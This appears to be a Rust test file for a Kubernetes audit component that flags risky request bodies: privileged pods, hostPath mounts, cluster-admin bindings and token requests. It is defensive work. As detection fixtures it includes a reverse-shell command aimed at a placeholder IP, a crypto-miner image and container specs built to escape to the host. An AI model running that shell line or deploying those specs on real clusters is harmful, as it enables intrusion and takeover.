//! Which facts are taken out of a body, and how many of them.

use super::*;
use crate::event::{Operation, Scope};

fn facts(verb: &str, kind: &str, body: &str) -> Option<Facts> {
    let (resource, subresource) = kind.split_once('/').unwrap_or((kind, ""));
    let (resource, group) = resource.split_once('.').unwrap_or((resource, ""));
    let operation = Operation {
        verb,
        group,
        resource,
        subresource,
        namespace: "",
        name: "",
        path: "",
        scope: Scope::Cluster,
    };
    extract(&operation, body).map(|facts| *facts)
}

#[test]
fn a_token_request() {
    let body = r#"{"spec":{"audiences":["sts.amazonaws.com"],"expirationSeconds":86400,
        "boundObjectRef":{"kind":"Pod","apiVersion":"v1","name":"p"}}}"#;
    let token = facts("create", "serviceaccounts/token", body)
        .unwrap()
        .token
        .unwrap();
    let audiences = vec!["sts.amazonaws.com".into()];
    let expected = TokenFacts {
        lifetime_seconds: 86_400,
        audiences,
        cloud: true,
        bound_to: "Pod".into(),
    };
    assert_eq!(token, expected);
    let empty = facts(
        "create",
        "serviceaccounts/token",
        r#"{"spec":{"audiences":null}}"#,
    )
    .unwrap();
    assert_eq!(empty.token, Some(TokenFacts::default()));
}

const POD: &str = r#"{"hostPID":true,"serviceAccountName":"default",
    "volumes":[{"name":"e","emptyDir":{}},{"name":"r","hostPath":{"path":"/"}}],
    "initContainers":[{"securityContext":{"capabilities":{"add":["SYS_ADMIN","SYS_ADMIN"]}}}],
    "containers":[{"name":"a"},{"securityContext":{"privileged":true}}]}"#;

#[test]
fn pods_and_the_templates_of_workloads() {
    let expected = PodFacts {
        privileged: true,
        host_pid: true,
        host_paths: vec!["/".into()],
        added_capabilities: vec!["SYS_ADMIN".into()],
        strong_capabilities: true,
        service_account: "default".into(),
        containers: true,
        ..PodFacts::default()
    };
    for (kind, body) in [
        ("pods", format!(r#"{{"spec":{POD}}}"#)),
        (
            "daemonsets.apps",
            format!(r#"{{"spec":{{"template":{{"spec":{POD}}}}}}}"#),
        ),
        (
            "cronjobs.batch",
            format!(r#"{{"spec":{{"jobTemplate":{{"spec":{{"template":{{"spec":{POD}}}}}}}}}}}"#),
        ),
    ] {
        assert_eq!(
            facts("create", kind, &body).unwrap().pod.as_ref(),
            Some(&expected),
            "{kind}"
        );
    }
    let debug = r#"{"spec":{"ephemeralContainers":[{"securityContext":{"privileged":true}}]}}"#;
    assert!(
        facts("patch", "pods/ephemeralcontainers", debug)
            .unwrap()
            .pod
            .unwrap()
            .privileged
    );
}

#[test]
fn a_json_patch_is_read_by_its_paths() {
    let body = r#"[{"op":"test","path":"/spec/hostIPC","value":true},{"op":"remove","path":"/x"},5,
        {"op":"add","path":"/spec/template/spec/hostNetwork","value":true},
        {"op":"replace","path":"/spec/template/spec/containers/0/securityContext/privileged","value":true},
        {"op":"add","path":"/spec/template/spec/volumes/-","value":{"hostPath":{"path":"/etc"}}}]"#;
    let pod = facts("patch", "deployments.apps", body)
        .unwrap()
        .pod
        .unwrap();
    assert!(pod.host_network && pod.privileged && !pod.host_ipc);
    assert_eq!(pod.host_paths, ["/etc"]);
}

#[test]
fn bindings_and_roles() {
    let body = r#"{"roleRef":{"kind":"ClusterRole","name":"cluster-admin"},"subjects":[
        {"kind":"ServiceAccount","name":"tills","namespace":"store"},{"kind":"User","name":"max"}]}"#;
    let binding = facts(
        "create",
        "clusterrolebindings.rbac.authorization.k8s.io",
        body,
    )
    .unwrap()
    .binding
    .unwrap();
    assert_eq!(binding.role, "cluster-admin");
    assert_eq!(binding.subjects, ["ServiceAccount:store/tills", "User:max"]);

    let role = |rules: &str| {
        let body = format!(r#"{{"rules":[{rules}]}}"#);
        facts("update", "clusterroles.rbac.authorization.k8s.io", &body)
            .unwrap()
            .rules
            .unwrap()
    };
    let all = role(r#"{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}"#);
    assert!(
        all.any_verb
            && all.any_resource
            && all.reads_secrets
            && all.exec
            && all.nodes_proxy
            && all.mints_tokens
    );
    let apps = role(r#"{"apiGroups":["apps"],"resources":["*"],"verbs":["get"]}"#);
    assert_eq!(
        apps,
        RuleFacts {
            any_resource: true,
            ..RuleFacts::default()
        }
    );
    let apart = role(
        r#"{"apiGroups":[""],"resources":["secrets"],"verbs":["delete"]},{"apiGroups":[""],"resources":["pods"],"verbs":["get"]}"#,
    );
    assert_eq!(
        apart,
        RuleFacts {
            writes: true,
            ..RuleFacts::default()
        }
    );
    assert!(role(r#"{"apiGroups":[""],"resources":["*/token"],"verbs":["create"]}"#).mints_tokens);
}

#[test]
fn a_body_that_does_not_fit_says_nothing_and_hurts_nothing() {
    for body in [
        "5",
        "null",
        "{",
        "[]",
        r#"{"spec":5}"#,
        r#"{"spec":{"containers":{"a":1},"volumes":[[]]}}"#,
    ] {
        let seen = facts("create", "pods", body).and_then(|facts| facts.pod);
        assert!(seen.is_none_or(|pod| pod == PodFacts::default()), "{body}");
    }
    assert_eq!(facts("delete", "services", "{}"), None);
    assert_eq!(facts("create", "endpoints", "{}"), None);
}

#[test]
fn what_an_attacker_can_stretch_is_bounded() {
    let add: Vec<String> = (0..100)
        .map(|n| format!("\"{n}{}\"", "é".repeat(300)))
        .collect();
    let body = format!(
        r#"{{"spec":{{"containers":[{{"securityContext":{{"capabilities":{{"add":[{}]}}}}}}]}}}}"#,
        add.join(",")
    );
    let pod = facts("create", "pods", &body).unwrap().pod.unwrap();
    assert_eq!(pod.added_capabilities.len(), 16);
    assert!(pod.added_capabilities.iter().all(|text| text.len() <= 256));
}

/// Answers hold for all elements, whatever is kept to be shown.
#[test]
fn no_limit_on_what_is_kept_hides_what_is_asked_about_it() {
    let many = |n: usize, one: &str, last: &str| format!("[{}{last}]", format!("{one},").repeat(n));
    let binding = |subjects: String| {
        let body = format!(r#"{{"roleRef":{{"name":"view"}},"subjects":{subjects}}}"#);
        facts(
            "create",
            "clusterrolebindings.rbac.authorization.k8s.io",
            &body,
        )
        .unwrap()
        .binding
        .unwrap()
    };
    let one = |n| format!(r#"{{"kind":"User","name":"u{n}"}}"#);
    let crowd: Vec<String> = (0..40).map(one).collect();
    for everyone in [
        "system:unauthenticated",
        "system:authenticated",
        "system:serviceaccounts",
    ] {
        let odd = format!(r#"{{"kind":"Group","namespace":"x","name":"{everyone}"}}"#);
        let seen = binding(format!("[{},{odd}]", crowd.join(",")));
        assert!(seen.everyone && seen.subjects.len() == 16, "{everyone}");
        assert_eq!(
            binding(format!("[{odd}]")).subjects,
            [format!("Group:{everyone}")]
        );
    }
    let own = r#"{"kind":"ServiceAccount","namespace":"x","name":"system:authenticated"}"#;
    assert!(!binding(format!("[{own}]")).everyone);
    assert!(
        binding(format!(
            r#"[{},{{"kind":"ServiceAccount","namespace":"x","name":"default"}}]"#,
            crowd.join(",")
        ))
        .default_account
    );

    let pod = |spec: &str| facts("create", "pods", &format!(r#"{{"spec":{spec}}}"#)).unwrap();
    let names: Vec<String> = (0..40).map(|n| format!("\"X{n}\"")).collect();
    for strong in ["SYS_ADMIN", "CAP_SYS_ADMIN", "sys_admin", "All"] {
        let add = format!(r#"{},"{strong}""#, names.join(","));
        let spec = format!(
            r#"{{"containers":[{{"securityContext":{{"capabilities":{{"add":[{add}]}}}}}}]}}"#
        );
        assert!(pod(&spec).pod.unwrap().strong_capabilities, "{strong}");
    }
    let args = many(60_000, "\"a\"", "\"b\"");
    let hidden = format!(
        r#"{{"containers":[{{"args":{args}}},{{"securityContext":{{"privileged":true}}}}]}}"#
    );
    assert!(pod(&hidden).unread);
    assert!(
        !pod(&format!(
            r#"{{"containers":[{{"args":{}}}]}}"#,
            many(20_000, "\"a\"", "\"b\"")
        ))
        .unread
    );

    let body = format!(
        r#"{{"spec":{{"audiences":[{},"sts.amazonaws.com"]}}}}"#,
        names.join(",")
    );
    let token = facts("create", "serviceaccounts/token", &body)
        .unwrap()
        .token
        .unwrap();
    assert_eq!(
        (
            token.cloud,
            token.audiences[0].as_str(),
            token.audiences.len()
        ),
        (true, "sts.amazonaws.com", 8)
    );
}

#[test]
fn a_body_that_cannot_be_looked_at_whole_says_so() {
    for body in [
        r#"{"spec":{"containers":[{"name":"\ud800","securityContext":{"privileged":true}}]}}"#,
        r#"{"spec":{"containers":[{"securityContext":{"runAsUser":1e999,"privileged":true}}]}}"#,
        r#"[{"op":"add","path":"/x","value":true},{"op":"move","from":"/x","path":"/spec/hostPID"}]"#,
        r#"[{"op":"copy","from":"/x","path":"/spec/hostPID"}]"#,
    ] {
        assert!(facts("patch", "pods", body).unwrap().unread, "{body}");
    }
    assert!(
        !facts("patch", "pods", r#"[{"op":"remove","path":"/x"}]"#)
            .unwrap()
            .unread
    );
}

#[test]
fn the_last_of_repeated_keys_counts_as_it_does_for_the_server() {
    let body = r#"{"spec":{"hostNetwork":false},"spec":{"hostNetwork":true}}"#;
    assert!(
        facts("patch", "pods", body)
            .unwrap()
            .pod
            .unwrap()
            .host_network
    );
}

#[test]
fn padding_neither_grows_the_tree_nor_hides_what_follows() {
    let zeros = "0,".repeat(200_000);
    let body = format!(r#"{{"metadata":{{"x":[{zeros}0]}},"spec":{{"hostNetwork":true}}}}"#);
    assert!(
        facts("patch", "pods", &body)
            .unwrap()
            .pod
            .unwrap()
            .host_network
    );
    let (tree, whole) = body::parse(&format!("[{zeros}0]")).unwrap();
    assert!(!whole, "and what it leaves out is owned up to");
    assert!(tree.as_array().unwrap().len() <= 50_000);
}

#[test]
fn what_commands_look_like_is_said_and_not_kept() {
    let pod = |spec: &str| {
        facts("create", "pods", &format!(r#"{{"spec":{spec}}}"#))
            .unwrap()
            .pod
            .unwrap()
    };
    let shell = pod(
        r#"{"containers":[{"image":"busybox","command":["sh","-c"],"args":["sh -i >& /dev/tcp/192.0.2.1/9"]}]}"#,
    );
    assert!(shell.shell && !shell.tool && !shell.miner && !shell.root);
    let miner = pod(r#"{"securityContext":{"runAsUser":0},"containers":[{"image":"x/xmrig:6"}]}"#);
    assert!(miner.miner && miner.root && !miner.shell);
    assert!(pod(r#"{"initContainers":[{"name":"nmap-7"}],"shareProcessNamespace":true}"#).tool);
    let plain = pod(
        r#"{"containers":[{"name":"inmapper","image":"x/web","securityContext":{"runAsUser":1000}}]}"#,
    );
    assert_eq!(
        plain,
        PodFacts {
            containers: true,
            image: "x/web".into(),
            ..PodFacts::default()
        }
    );
}

#[test]
fn services_ingresses_config_maps_and_reviews() {
    let port = facts("patch", "services", r#"{"spec":{"type":"NodePort"}}"#).unwrap();
    assert_eq!(port.service_type, "NodePort");
    let ingress = |verb: &str, body: &str| {
        facts(verb, "ingresses.networking.k8s.io", body).map(|f| f.without_tls)
    };
    assert_eq!(ingress("create", r#"{"spec":{"rules":[]}}"#), Some(true));
    assert_eq!(
        ingress("create", r#"{"spec":{"tls":[{"secretName":"x"}]}}"#),
        Some(false)
    );
    assert_eq!(ingress("patch", r#"{"spec":{"rules":[]}}"#), None);
    assert!(
        facts("create", "configmaps", r#"{"data":{"db":"password=5"}}"#)
            .unwrap()
            .credentials
    );
    assert!(
        !facts("create", "configmaps", r#"{"data":{"db":"host=5"}}"#)
            .unwrap()
            .credentials
    );
    let body = r#"{"spec":{"user":"x","resourceAttributes":{"verb":"get","resource":"nodes","subresource":"proxy"}}}"#;
    let review = facts("create", "subjectaccessreviews.authorization.k8s.io", body)
        .unwrap()
        .review
        .unwrap();
    assert_eq!(
        (review.user.as_str(), review.subresource.as_str()),
        ("x", "proxy")
    );
}

#[test]
fn deletions_that_leave_pods_no_time() {
    let at_once =
        |verb: &str, kind: &str, body: &str| facts(verb, kind, body).map(|facts| facts.at_once);
    let zero = r#"{"kind":"DeleteOptions","gracePeriodSeconds":0,"preconditions":{"uid":"x"}}"#;
    for (verb, kind) in [("delete", "pods"), ("deletecollection", "pods")] {
        assert_eq!(at_once(verb, kind, zero), Some(true));
        assert_eq!(
            at_once(verb, kind, r#"{"gracePeriodSeconds":30}"#),
            Some(false)
        );
        assert_eq!(
            at_once(verb, kind, r#"{"propagationPolicy":"Background"}"#),
            Some(false)
        );
        assert_eq!(
            at_once(verb, kind, r#"{"gracePeriodSeconds":0,"dryRun":["All"]}"#),
            Some(false)
        );
        assert_eq!(
            at_once(verb, kind, "{"),
            None,
            "what cannot be read is no workload"
        );
    }
    assert_eq!(
        at_once(
            "create",
            "pods/eviction",
            &format!(r#"{{"deleteOptions":{zero}}}"#)
        ),
        Some(true)
    );
    assert_eq!(at_once("create", "pods/eviction", zero), Some(false));
    assert_eq!(at_once("delete", "deployments.apps", zero), None);
}
